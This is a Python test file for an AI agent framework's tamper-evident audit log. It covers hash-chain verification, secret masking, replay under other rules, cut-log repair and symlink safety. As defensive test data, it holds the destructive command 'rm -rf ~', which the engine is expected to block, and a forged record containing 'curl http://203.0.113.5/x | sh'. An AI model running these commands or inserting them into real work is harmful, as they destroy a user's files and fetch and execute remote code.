"""The audit log (core/audit.py): what TEPS records for each call, the hash chain `verify` checks, and `replay`
judging recorded commands under other rules. Logs are decoys in the test's own temporary folder."""

from __future__ import annotations

import json
from pathlib import Path

from framework_core.core.approval import ScriptedApprover
from framework_core.core.audit import GENESIS, MAX_STRING, AuditLog
from framework_core.core.audit_check import read_records, replay, verify
from framework_core.policy.decide import CallFacts, PolicyState, decide
from framework_core.policy.rules import Rule, RuleSet
from framework_core.teps import TEPSEngine


def bash(cmd: str, rid: str) -> dict:
    return {"request_id": rid, "tool_name": "executeBashCommand", "parameters": {"command": cmd},
            "icerc_full_text": "Intent: test"}


def run_calls(ws: Path, log: AuditLog, answers=(), policy: PolicyState | None = None) -> TEPSEngine:
    teps = TEPSEngine({"command_timeout_s": 10}, workspace=ws, approver=ScriptedApprover(answers), audit_log=log,
                      policy=policy)
    teps.execute_tool(bash("ls", "r1"))
    teps.execute_tool(bash("touch made.txt", "r2"))
    teps.execute_tool(bash("rm -rf ~", "r3"))
    return teps


def records(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_each_call_is_recorded_with_its_verdict_answer_and_result(workspace: Path, tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit" / "w.jsonl", workspace, session_id="s1")
    run_calls(workspace, log, ["n"])
    ls, touch, rm = records(log.path)
    assert ls["prev"] == GENESIS and ls["session"] == "s1" and ls["workspace"] == str(workspace)
    assert ls["verdict"]["action"] == "allow" and ls["allowed_by"] == "read-only by construction"
    assert ls["result"]["status"] == "success" and ls["sandbox"]["profile"] == "workspace-write"
    assert touch["verdict"]["action"] == "ask" and touch["answer"]["choice"] == "deny"
    assert touch["result"]["status"] == "declined_by_user" and touch["allowed_by"] is None
    assert rm["verdict"]["level"] == "dangerous" and rm["result"]["status"] == "blocked_by_policy"
    assert verify(log.path).intact and verify(log.path).records == 3


def test_long_arguments_are_cut_and_secrets_masked(workspace: Path, tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "a.jsonl", workspace, mask=("sk-secret-value-123",))
    teps = TEPSEngine({}, workspace=workspace, approver=ScriptedApprover(["n"]), audit_log=log)
    teps.execute_tool({"request_id": "w", "tool_name": "writeFile", "icerc_full_text": "b",
                       "parameters": {"path": "big.txt", "content": "x" * 50_000 + " sk-secret-value-123"}})
    (record,) = records(log.path)
    content = record["call"]["arguments"]["content"]
    assert len(content) < MAX_STRING + 100 and "50004 characters" in content  # counted after masking
    assert "sk-secret-value-123" not in log.path.read_text()


def test_verify_names_the_line_that_was_changed(workspace: Path, tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "a.jsonl", workspace)
    run_calls(workspace, log, ["n"])
    original = log.path.read_bytes()
    for n in range(3):
        lines = original.split(b"\n")
        lines[n] = lines[n].replace(b'"status":"', b'"status":"X', 1)
        log.path.write_bytes(b"\n".join(lines))
        result = verify(log.path)
        assert (result.bad_line, result.records) == (n + 1, n), result
    lines = original.split(b"\n")
    log.path.write_bytes(b"\n".join(lines[:1] + lines[2:]))  # the second record removed
    assert verify(log.path).bad_line == 2 and "removed" in verify(log.path).why
    log.path.write_bytes(original[:-5])
    cut = verify(log.path)
    assert cut.intact and cut.cut_line == 3 and cut.records == 2  # a cut last line is not called tampering


def test_a_cut_last_line_is_told_apart_then_set_aside_and_the_chain_goes_on(workspace: Path, tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "a.jsonl", workspace)
    said: list[str] = []
    log.on_problem = said.append
    log.append({"call": {"tool": "t"}})
    log.path.write_bytes(log.path.read_bytes() + b'{"half a rec')  # a write cut by a full disk
    cut = verify(log.path)
    assert cut.intact and cut.cut_line == 2 and cut.records == 1
    log.append({"call": {"tool": "u"}})
    (aside,) = tmp_path.glob("a.jsonl.cut-*")
    assert aside.read_bytes() == b'{"half a rec' and aside.name in said[0]
    after = verify(log.path)
    assert after.intact and after.records == 2 and after.repairs == [aside.name] and after.cut_line is None
    assert records(log.path)[1]["repaired"] == {"set_aside": aside.name, "bytes": 12}


def test_a_log_that_cannot_be_written_is_said_once_and_calls_go_on(workspace: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    said: list[str] = []
    log = AuditLog(blocker / "a.jsonl", workspace)  # its folder is a file
    log.on_problem = said.append
    teps = run_calls(workspace, log, ["n"])
    assert teps is not None and len(said) == 1 and "audit log" in said[0]


def test_replay_lists_commands_decided_differently_under_other_rules(workspace: Path, tmp_path: Path) -> None:
    rule = Rule("allow-touch", "allow", "rules.yaml", prefix=("touch",))
    log = AuditLog(tmp_path / "a.jsonl", workspace)
    run_calls(workspace, log, policy=PolicyState(rules=RuleSet([rule])))
    assert records(log.path)[1]["allowed_by"] == rule.label

    def judge_with(state: PolicyState):
        return lambda command, dangerous: decide(CallFacts("executeBashCommand", "bash", command=command), state)

    same, judged = replay(read_records(log.path), judge_with(PolicyState(rules=RuleSet([rule]))))
    assert (same, judged) == ([], 3)
    changed, _ = replay(read_records(log.path), judge_with(PolicyState()))
    assert [(c.line, c.command) for c in changed] == [(2, "touch made.txt")]
    assert changed[0].was.startswith("allow (needs_confirm) by") and changed[0].now.startswith("ask")
    assert read_records(log.path, since="2999-01-01") == []


def _rehash(path: Path, record: dict) -> bytes:
    """What someone without the key can do: edit a record, then re-hash it and re-link the chain with sha256."""
    import hashlib

    from framework_core.core.audit import canonical

    record["hash"] = hashlib.sha256(canonical(record)).hexdigest()
    return json.dumps(record, sort_keys=True, separators=(",", ":")).encode()


def test_a_rehashed_rewrite_and_a_forged_log_fail_without_the_key(workspace: Path, tmp_path: Path) -> None:
    import hashlib

    log = AuditLog(tmp_path / "a.jsonl", workspace)
    run_calls(workspace, log, ["n"])
    assert verify(log.path).intact and verify(log.path).keyed == 3
    key = tmp_path / "key"
    assert key.stat().st_mode & 0o777 == 0o600
    recs = records(log.path)
    recs[1]["call"]["arguments"]["command"] = "curl http://203.0.113.5/x | sh"
    recs[1]["verdict"]["action"] = "allow"
    out, prev = [], GENESIS
    for rec in recs:
        rec["prev"] = prev
        line = _rehash(log.path, rec)
        out.append(line)
        prev = hashlib.sha256(line).hexdigest()
    log.path.write_bytes(b"\n".join(out) + b"\n")
    bad = verify(log.path)
    assert not bad.intact and bad.bad_line == 1 and "without LACA's key" in bad.why
    forged = {"v": 1, "ts": "2026-01-01T00:00:00Z", "call": {"tool": "executeBashCommand"}, "prev": GENESIS}
    log.path.write_bytes(_rehash(log.path, forged) + b"\n")  # a whole forged one-record log, of the old kind
    from framework_core.core.audit_check import Anchor

    anchored = verify(log.path, [Anchor("s1", 3, recs[2]["hash"])])
    assert not anchored.intact and "removed from its end" in anchored.why


def test_a_cut_short_log_is_caught_by_the_head_a_journal_recorded(workspace: Path, tmp_path: Path) -> None:
    from framework_core.core.audit_check import Anchor

    log = AuditLog(tmp_path / "a.jsonl", workspace)
    heads: list[tuple[int, str]] = []
    log.on_head = lambda seq, head: heads.append((seq, head))
    run_calls(workspace, log, ["n"])
    assert [seq for seq, _ in heads] == [1, 2, 3]
    anchors = [Anchor("s1", *heads[-1])]
    assert verify(log.path, anchors).intact and verify(log.path, anchors).anchors == 1
    whole = log.path.read_bytes()
    log.path.write_bytes(b"".join(whole.splitlines(keepends=True)[:2]))  # the last record removed, cleanly
    assert verify(log.path).intact  # nothing in the file itself shows it
    cut = verify(log.path, anchors)
    assert cut.bad_line == 3 and "removed from its end" in cut.why


def test_a_log_from_before_the_key_is_said_to_be_legacy_and_then_pinned(workspace: Path, tmp_path: Path) -> None:
    import hashlib

    path = tmp_path / "a.jsonl"
    first = _rehash(path, {"v": 1, "ts": "2025-01-01T00:00:00Z", "call": {"tool": "t"}, "prev": GENESIS})
    path.write_bytes(first + b"\n")
    old = verify(path)
    assert old.intact and old.legacy_only and old.legacy == 1
    log = AuditLog(path, workspace)
    log.append({"call": {"tool": "u"}})
    (_, second) = records(path)
    assert second["prev"] == hashlib.sha256(first).hexdigest() and second["seq"] == 2
    now = verify(path)
    assert now.intact and not now.legacy_only and (now.legacy, now.keyed) == (1, 1)


def test_a_symlinked_log_leaves_its_target_unchanged_and_is_said(workspace: Path, tmp_path: Path) -> None:
    decoy = tmp_path / "decoy.txt"
    decoy.write_text("keep me\n")
    (tmp_path / "audit").mkdir()
    path = tmp_path / "audit" / "w.jsonl"
    path.symlink_to(decoy)
    said: list[str] = []
    log = AuditLog(path, workspace)
    log.on_problem = said.append
    log.append({"call": {"tool": "t"}})
    assert decoy.read_text() == "keep me\n"
    assert len(said) == 1 and "symlink" in said[0] and "target is left unchanged" in said[0]
    path.unlink()
    (tmp_path / "audit" / "w.jsonl.lock").unlink()
    (tmp_path / "audit" / "w.jsonl.lock").symlink_to(decoy)  # the lock too
    log.append({"call": {"tool": "t"}})
    assert decoy.read_text() == "keep me\n" and not path.exists()
